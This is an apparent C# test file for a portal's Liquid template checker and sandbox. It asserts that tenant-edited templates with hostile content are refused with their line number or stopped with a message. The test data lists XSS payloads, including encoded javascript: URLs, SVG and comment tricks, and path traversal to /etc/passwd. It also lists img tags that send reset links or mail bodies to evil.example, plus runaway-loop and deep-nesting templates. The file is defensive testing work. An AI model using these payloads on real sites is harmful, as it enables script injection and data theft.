using System.Globalization;
using Microsoft.Extensions.FileProviders;
using Microsoft.Extensions.Primitives;
using OrchardCore.Portal.Pages;
using OrchardCore.Portal.Pages.Sandbox;
using OrchardCore.Portal.Tests.Conventions;

namespace OrchardCore.Portal.Tests.Branding;

/// <summary>What a template may hold, and how far it may go. Hostile Liquid is refused with its line, or ended with a message.</summary>
public sealed class CheckingTemplates
{
    private static readonly Dictionary<string, string> Own = EditableTemplates.Own;

    [Theory]
    [InlineData("<script>alert(1)</script>", 1, "<script> is not taken")]
    [InlineData("a\nb <ScRiPt src=x>", 2, "<script> is not taken")]
    [InlineData("<scr{% if true %}ipt>{% endif %}", 1, "began inside the tag <scr>|not among the elements|blank is expected")]
    [InlineData("<s {%- if true -%} cript>{% endif %}", 1, "blank is expected")]
    [InlineData("<{{ 'script' }}>", 1, "right after “<”")]
    [InlineData("<p onclick=\"x()\">", 1, "“onclick” runs a script")]
    [InlineData("<p\nONCLICK = 'x()'>", 2, "“onclick” runs a script")]
    [InlineData("<p on{% if true %}click=\"x()\"{% endif %}>", 1, "“on” runs a script")]
    [InlineData("<a{% if true %}onclick=\"x()\"{% endif %}>", 1, "blank is expected")]
    [InlineData("<a title=\"x\"onclick=\"x()\">", 1, "blank is expected")]
    [InlineData("<a {{ page.title }}>", 1, "An output stands inside the tag")]
    [InlineData("<a href=\"javascript:alert(1)\">", 1, "takes an address of the portal")]
    [InlineData("<a href=\"java&#115;cript:alert(1)\">", 1, "takes an address of the portal")]
    [InlineData("<a href=\" &#1;javascript:alert(1)\">", 1, "takes an address of the portal")]
    [InlineData("<a href=\"{{ page.title }}\">", 1, "takes an address of the portal")]
    [InlineData("<a href=\"{{ page.href }}{{ page.title }}\">", 1, "takes an address of the portal")]
    [InlineData("<a href=\"{% if true %}javascript:{% endif %}\">", 1, "around the whole attribute")]
    [InlineData("<a href=\"//evil.example\">", 1, "takes an address of the portal")]
    [InlineData("<a href=\"/{{ page.title }}\">", 1, "takes an address of the portal")]
    [InlineData("<a href=\"{{ '//evil.example' | url }}\">", 1, "takes an address of the portal")]
    [InlineData("<a href=\"https://{{ page.title }}\">", 1, "takes an address of the portal")]
    [InlineData("{% assign href = page.title %}<a href=\"{{ href }}\">", 1, "“href” is how addresses of the portal are called")]
    [InlineData("{% capture x_href %}javascript:alert(1){% endcapture %}", 1, "is how addresses of the portal are called")]
    [InlineData("{% render 'Notifications/Button', href: page.title %}", 1, "is how addresses of the portal are called")]
    [InlineData("<form method=\"post\" action=\"https://evil.example\">", 1, "and no other site's")]
    [InlineData("<button formaction=\"https://evil.example\">", 1, "and no other site's")]
    [InlineData("<img src=\"https://evil.example/x.png\" alt=\"\">", 1, "and no other site's")]
    [InlineData("<iframe src=\"/x\">", 1, "<iframe> is not taken")]
    [InlineData("<meta http-equiv=\"refresh\" content=\"0;url=x\">", 1, "<meta> is not taken")]
    [InlineData("<base href=\"/x\">", 1, "<base> is not taken")]
    [InlineData("<p style=\"position:fixed\">", 1, "“style” is not taken")]
    [InlineData("<svg><foreignObject></foreignObject></svg>", 1, "not among the elements")]
    [InlineData("<svg><title><script>alert(1)</script></title></svg>", 1, "not among the elements")]
    [InlineData("<svg><rect fill=\"url(https://evil.example)\"/></svg>", 1, "same drawing")]
    [InlineData("<!--> <script>alert(1)</script> -->", 1, "An HTML comment")]
    [InlineData("<textarea></textarea ><script>", 1, "no “<” is taken")]
    [InlineData("<textarea>", 1, "The template ends inside <textarea>")]
    [InlineData("<p title=\"", 1, "The template ends in the value of “title”")]
    [InlineData("<p title=x>", 1, "with its value in quotes")]
    [InlineData("{% if a %}<p title=\"{% endif %}", 1, "began in the text and ends in the value")]
    [InlineData("{% for i in page.x %}<p {% break %}>{% endfor %}", 1, "stands inside the tag <p>, and its loop began in the text")]
    [InlineData("<p title=\"{{ 'lock' | icon }}\">", 1, "is markup")]
    [InlineData("<a href=\"https://evil.example/?{{ page.title | url_encode }}\">", 1, "takes an address of the portal")]
    [InlineData("<p title=\"<script type=\"module\" src=\"{{ 'charts.js' | asset }}\"></script><meta http-equiv='refresh' content='0;url=https://evil'>\">", 1, "blank is expected")]
    [InlineData("<script type=\"module\" src=\"{{ 'charts.js' | asset }}\"></script><meta http-equiv=\"refresh\">", 1, "<meta> is not taken")]
    [InlineData("<script type=\"module\" src=\"{{ 'charts.js' | asset | append: 'x' }}\"></script>", 1, "<script> is not taken")]
    [InlineData("<a href=\"{{ page.nope_href }}&sol;&sol;evil.example\">", 1, "takes an address of the portal")]
    [InlineData("<a href=\"{{ page.nope_href }}&#47/evil.example\">", 1, "takes an address of the portal")]
    [InlineData("<a href=\"{{ page.nope_href }}&Tab;javascript:alert(1)\">", 1, "takes an address of the portal")]
    [InlineData("<a href=\"{{ page.nope_href }}&{{ 'sol;' }}&{{ 'sol;' }}evil.example\">", 1, "takes an address of the portal")]
    [InlineData("<a href=\"{{ page.nope_href }}&s{{ 'ol;' }}\">", 1, "takes an address of the portal")]
    [InlineData("<a href=\"{{ '/\t/evil.example' | url }}\">", 1, "takes an address of the portal")]
    [InlineData("<a href=\"{{ '/\n/evil.example' | url }}\">", 2, "takes an address of the portal")]
    [InlineData("{% render 'Notifications/Button' with 'https://evil.example' ashref %}", 1, "takes a name in quotes and its arguments")]
    [InlineData("{% render 'Notifications/Button' with 'https://evil.example' as href %}", 1, "is how addresses of the portal are called")]
    [InlineData("{% render 'Notifications/Button' for page.lines as x_href, label: 'x' %}", 1, "is how addresses of the portal are called")]
    [InlineData("{% render 'Notifications/Button', label: 'x'href: page.title %}", 1, "takes a name in quotes and its arguments")]
    [InlineData("<svg><rect fill=\"{{ 'url(https://evil.example)' }}\"/></svg>", 1, "expected a member as it is")]
    [InlineData("{% assign x = 'url(https://evil.example),' | split: ',' %}<svg><rect stroke=\"{{ x.first }}\"/></svg>", 1, "expected a member as it is")]
    [InlineData("<svg><rect fill=\"{% if page.x %}url(https:{% endif %}//evil.example)\"/></svg>", 1, "around the whole attribute")]
    [InlineData("<svg><rect fill=\"\\75rl(https://evil.example)\"/></svg>", 1, "is not taken in a style")]
    [InlineData("<a href=\"\uFFFC\">", 1, "cannot be seen (U+FFFC)|stands for something else")]
    [InlineData("<a href=\"&#xFFFC;\">", 1, "takes an address of the portal")]
    [InlineData("<scr\u2028ipt>", 1, "not among the elements|blank is expected")]
    [InlineData("{% raw %}<script>{% endraw %}", 1, "“raw” is not taken")]
    [InlineData("{% liquid\necho x\n%}", 1, "“liquid” is not taken")]
    [InlineData("{{ page.title | raw }}", 1, "“raw” is not taken")]
    [InlineData("{{ page.title | json }}", 1, "“json” is no filter")]
    [InlineData("{% include '../../etc/passwd' %}", 1, "“include” is not taken")]
    [InlineData("\n{% render '../../etc/passwd' %}", 2, "There is no template “../../etc/passwd”")]
    [InlineData("{% render 'Help/HelpList' %}", 1, "The template renders itself")]
    [InlineData("{{ '%}' }}", 1, "%} inside quotes")]
    [InlineData("{{ 'a\\'}}<script>' }}", 1, "A backslash inside quotes")]
    [InlineData("a\0b", 1, "cannot be seen (U+0000)")]
    [InlineData("a\u202Eb", 1, "cannot be seen (U+202E)")]
    [InlineData("one\n{% if a %}\nthree", 2, "{% if %} is not closed")]
    [InlineData("{% if a %}\n{% endfor %}", 2, "expected {% endif %}")]
    [InlineData("{% else if b %}", 1, "expected {% elsif … %}")]
    [InlineData("one\n{{ page.title", 2, "{{ is not closed")]
    [InlineData("{{ | }}", 1, "A value was expected|Invalid|expected")]
    [InlineData("{% macro x() %}{% endmacro %}", 1, "“macro” is no tag")]
    public void What_must_not_get_in_is_refused_with_its_line(string text, int line, string said)
    {
        var fault = Assert.IsType<TemplateFault>(Faults(text, "Help/HelpList").FirstOrDefault(one => !one.IsWarning));
        Assert.Contains(said.Split('|'), words => fault.Text.Contains(words, StringComparison.Ordinal));
        Assert.Equal(line, fault.Line);
    }

    [Theory]
    [InlineData("<p>a < b & 2 > 1, <b>you</b> {{ page.title }}</p>")]
    [InlineData("<a class=\"btn{% if page.x %} on{% endif %}\" href=\"{{ page.statement.href }}#top\"{% if page.y %} aria-current=\"page\"{% endif %}>x</a>")]
    [InlineData("<a href=\"https://lumen.example/terms\">x</a><a href=\"mailto:{{ page.email }}\">y</a><a href=\"{{ '/help' | url }}\">z</a>")]
    [InlineData("{% capture who %}{{ page.first }} {{ page.last }}{% endcapture %}{{ who | upcase | truncate: 20 }}")]
    public void What_a_retailer_would_write_is_taken(string text) => Assert.Empty(Faults(text, "Help/HelpList"));

    [Fact]
    public void Where_people_pay_or_sign_in_no_field_and_no_other_site_is_taken()
    {
        Assert.Contains("The field “card”", Faults("<input name=\"card\">", "Payments/PayReview")[0].Text, StringComparison.Ordinal);
        foreach (var name in new[] { "{{ 'card-number' }}", "{% if x %}card{% else %}amount{% endif %}", "{{ page.title }}", "am{{ page.name }}", "{{ page.name | append: 'x' }}" }) Assert.Single(Faults($"<input name=\"{name}\">", "Payments/PayReview"));
        foreach (var path in new[] { "Frame/Foot", "Pages/Field", "Help/Contact", "Transactions/PayHead" })
        {
            Assert.Contains("The field “card”", Faults("<input name=\"card\">", path)[0].Text, StringComparison.Ordinal);
            Assert.Contains("takes an address", Faults("<a href=\"https://evil.example\">x</a>", path)[0].Text, StringComparison.Ordinal);
        }
        Assert.Contains("is not rendered where people pay or sign in", Faults("{% render 'Help/HelpList' %}", "SignIn/Card")[0].Text, StringComparison.Ordinal);
        Assert.Contains("takes an address", Faults("<a href=\"https://evil.example\">x</a>", "SignIn/Card")[0].Text, StringComparison.Ordinal);
        Assert.Contains("<script> is not taken", Faults("<script type=\"module\" src=\"{{ 'charts.js' | asset }}\"></script>", "Payments/PayResult")[0].Text, StringComparison.Ordinal);
        Assert.Contains("is not taken in a style", Faults("<p style=\"background:url(https://evil.example)\">x</p>", "ContactUs/AnswerMail")[0].Text, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("SignIn/Passwords/ResetMail", "<img src=\"https://evil.example/?{{ page.href | url_encode }}\" alt=\"\">")]
    [InlineData("SignIn/Activating/InviteMail", "{% if page.href contains 'a' %}<img src=\"https://evil.example/a\" alt=\"\">{% endif %}")]
    [InlineData("Payments/Attempts/PaymentMail", "<a href=\"https://evil.example\">x</a>")]
    [InlineData("Notifications/Button", "<img src=\"https://evil.example/?{{ href }}\" alt=\"\">")]
    [InlineData("Notifications/Layout", "{{ body }}<img src=\"https://evil.example/?{{ body | url_encode }}\" alt=\"\">")]
    [InlineData("Notifications/Layout", "{{ body }}{% if body contains 'a' %}<img src=\"https://evil.example/a\" alt=\"\">{% endif %}")]
    [InlineData("ContactUs/AnswerMail", "<img src=\"https://evil.example/?{{ page.text }}\" alt=\"\">")]
    [InlineData("ContactUs/AnswerMail", "<script type=\"module\" src=\"{{ 'charts.js' | asset }}\"></script>")]
    [InlineData("ContactUs/AnswerMail", "<p style=\"{{ 'position:fixed' }}\">x</p>")]
    [InlineData("ContactUs/AnswerMail", "<p style=\"{% if page.x %}position:{% endif %}fixed\">x</p>")]
    public void A_mail_tells_no_other_site_what_it_says(string path, string text) => Assert.NotEmpty(Faults(text, path));

    [Fact]
    public void And_one_with_a_picture_and_a_link_is_taken() =>
        Assert.Empty(Faults("<img src=\"https://lumen.example/sun.png\" alt=\"\"><a href=\"https://lumen.example/?a=1&b=2\" style=\"color:{{ mail.colour }}\">x</a>", "ContactUs/AnswerMail"));

    public static TheoryData<string> TooDeep() =>
    [
        string.Concat(Enumerable.Repeat("{% if true %}", 100_000)), string.Concat(Enumerable.Repeat("{% if true %}", 4_000)) + string.Concat(Enumerable.Repeat("{% endif %}", 4_000)),
        "{{ " + new string('(', 900), "{{ " + string.Concat(Enumerable.Repeat("a[", 400)), "{{ a" + string.Concat(Enumerable.Repeat(" | upcase", 100)) + " }}", "{{ a" + string.Concat(Enumerable.Repeat(" or a", 150)) + " }}",
        "{{ '" + new string('x', 60_000) + "' }}", "{% if " + string.Concat(Enumerable.Repeat("a and ", 150)) + "a %}{% endif %}", new string('<', 70_000), "{{{{{{{{", "{%-%}",
    ];

    [Theory, MemberData(nameof(TooDeep))]
    public void What_would_be_too_deep_for_the_parser_never_reaches_it(string text) => Assert.NotEmpty(Faults(text, "Help/HelpList"));

    [Fact]
    public void A_member_that_is_not_there_is_warned_of_with_those_that_are()
    {
        var roots = new TemplateRoots(new Dictionary<string, Type> { ["page"] = typeof(TablePage), ["frame"] = typeof(FramePage) });
        string Said(string text) => string.Join(" ", Faults(text, "Help/HelpList", roots).Select(fault => $"{fault.Line}:{(fault.IsWarning ? "" : "!")}{fault.Text}"));

        Assert.Contains("2:“page.captoin” is not among page.caption,", Said("a\n{{ page.captoin }}"), StringComparison.Ordinal);
        Assert.Contains("“row.cels” is not among row.cells", Said("{% for row in page.rows %}{{ row.cels }}{% endfor %}"), StringComparison.Ordinal);
        Assert.Contains("“pge” is not among page, frame", Said("{{ pge.id }}"), StringComparison.Ordinal);
        Assert.Contains("“page.id.get_type” is not among page.id.size.", Said("{{ page.id.get_type }}"), StringComparison.Ordinal);
        Assert.Equal("", Said("{% assign n = page.rows.size %}{% for c in page.columns reversed limit: 3 %}{{ c.label | append: 'x.y' }} {{ forloop.index }} {{ n }}{% if page.rows[0].cells.first.text contains 'a' %}{{ page.filters.count }}{% endif %}{% endfor %}"));
    }

    [Theory]
    [InlineData("{% for i in (1..1000000000) %}x{% endfor %}", "a range of more than")]
    [InlineData("{{ page[(1..1000000000)] }}", "a range of more than")]
    [InlineData("{% for i in (1..4000) %}{% for j in (1..4000) %}{% endfor %}{% endfor %}", "steps")]
    [InlineData("{% assign s = 'aaaaaaaaaa' %}{% for i in (1..100) %}{% assign s = s | append: s %}{% endfor %}", "a text of more than")]
    [InlineData("{% assign s = 'aaaaaaaaaa' %}{% for i in (1..12) %}{% assign s = s | append: s %}{% endfor %}{{ s | replace: '', s }}", "a text of more than")]
    [InlineData("{% assign s = 'aaaaaaaaaa' %}{% for i in (1..100) %}{% capture s %}{{ s }}{{ s }}{% endcapture %}{% endfor %}", "characters")]
    [InlineData("{% assign s = 'a,b' | split: ',' %}{% for i in (1..100) %}{% assign s = s | concat: s %}{% endfor %}", "“concat”")]
    [InlineData("{% assign s = 'aaaaaaaaaa' %}{% for i in (1..12) %}{% assign s = s | append: s %}{% endfor %}{% for i in (1..5000) %}{{ s }}{% endfor %}", "writes more than")]
    [InlineData("{% render 'Own/Self' %}", "render each other without end")]
    [InlineData("{{ 'now' | date: '%Y%Y%Y%Y%Y%Y%Y%Y%Y%Y%Y%Y%Y%Y%Y%Y%Y%Y%Y%Y%Y%Y%Y%Y%Y%Y%Y%Y%Y%Y%Y' }}", "a format of more than 60")]
    [InlineData("{{ 1 | divided_by: 0 }}", "“divided_by” cannot be used")]
    [InlineData("{{ 'a' | slice: 99999999999999 }}", "“slice” cannot be used")]
    [InlineData("{{ 'a' | truncate: 'x', nothing }}{{ page | raw }}", "raw")]
    public async Task What_would_not_end_is_ended_with_a_message(string text, string said)
    {
        var engine = new Liquid(new Texts(new() { ["Own/Page"] = text, ["Own/Self"] = "{% render 'Own/Self' %}" }), CultureInfo.InvariantCulture, new Dictionary<string, Func<string, object>>());
        var fault = await Assert.ThrowsAsync<TemplateFaultException>(async () => await engine.RenderAsync("Own/Page", new Dictionary<string, object?> { ["page"] = new EmptyPage("t", "x") }));
        Assert.Contains(said, fault.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("{{ page }}|{{ page.get_type }}|{{ page.GetType }}|{{ page['GetType'] }}|{{ page.equality_contract }}|{{ page.title.length }}", "|||||")]
    [InlineData("{% capture a %}<b>{% endcapture %}{{ a | append: page.title }}", "&lt;b&gt;&lt;i&gt;")]
    [InlineData("{{ page.text | newline_to_br }}", "x&lt;<br>\ny")]
    [InlineData("{% assign i = 'lock' | icon %}{{ i }}<p title=\"a > b{{ i }}\">{{ i }}{% cycle i, i %}", "<svg id=\"x\"/><p title=\"a > b&lt;svg id=&quot;x&quot;/&gt;\"><svg id=\"x\"/><svg id=\"x\"/>")]
    [InlineData("<p title='{{ 'lock' | icon: 1 }}{% cycle html, 1 %}{{ html or 1 }}'>", "<p title='&lt;svg id=&quot;x&quot;/&gt;&lt;b&gt;&lt;b&gt;'>")]
    [InlineData("a < b {{ html }}{{ html | append: '<' }}", "a < b <b>&lt;b&gt;&lt;")]
    [InlineData("{{ lines }}{{ '<b>,<i>' | split: ',' }}{% cycle '<b>' %}{% echo '<b>' %}", "&lt;u&gt;&lt;b&gt;&lt;i&gt;&lt;b&gt;&lt;b&gt;")]
    [InlineData("{% increment GetType %}{% assign page2 = page %}{{ page2.title }}", "0&lt;i&gt;")]
    public async Task Nothing_but_the_pages_own_text_is_reached_and_all_of_it_is_encoded(string text, string written)
    {
        var engine = new Liquid(new Texts(new() { ["Own/Page"] = text }), CultureInfo.InvariantCulture, new Dictionary<string, Func<string, object>> { ["icon"] = _ => new Html("<svg id=\"x\"/>") });
        Assert.Equal(written, await engine.RenderAsync("Own/Page", new Dictionary<string, object?> { ["page"] = new EmptyPage("<i>", "x<\ny"), ["html"] = new Html("<b>"), ["lines"] = new[] { "<u>" } }));
    }

    [Fact]
    public async Task What_was_checked_is_what_is_read_to_the_line_end()
    {
        var engine = new Liquid(new Texts(new() { ["Own/Page"] = "<a\u2028b>\r\n{% render 'Own/Part' %}", ["Own/Part"] = "<a\u2028b>" }), CultureInfo.InvariantCulture, new Dictionary<string, Func<string, object>>());
        Assert.Equal("<a\nb>\n<a\nb>", await engine.RenderAsync("Own/Page", new Dictionary<string, object?>()));
    }

    private static IReadOnlyList<TemplateFault> Faults(string text, string path, TemplateRoots? roots = null) =>
        TemplateCheck.Faults(TemplateCheck.Normal(text), new(path, Own.GetValueOrDefault(path, ""), Own.ContainsKey, Templates.FilterNames, roots ?? TemplateRoots.Unknown));

    private sealed class Texts(Dictionary<string, string> texts) : IFileProvider
    {
        public IFileInfo GetFileInfo(string subpath) => texts.TryGetValue(subpath.Replace(".liquid", "", StringComparison.Ordinal), out var text) ? new Text(subpath, text) : new NotFoundFileInfo(subpath);
        public IDirectoryContents GetDirectoryContents(string subpath) => NotFoundDirectoryContents.Singleton;
        public IChangeToken Watch(string filter) => NullChangeToken.Singleton;

        private sealed class Text(string path, string text) : IFileInfo
        {
            public bool Exists => true;
            public bool IsDirectory => false;
            public DateTimeOffset LastModified => DateTimeOffset.UnixEpoch;
            public long Length => -1;
            public string Name => path;
            public string? PhysicalPath => null;
            public Stream CreateReadStream() => new MemoryStream(System.Text.Encoding.UTF8.GetBytes(text));
        }
    }
}
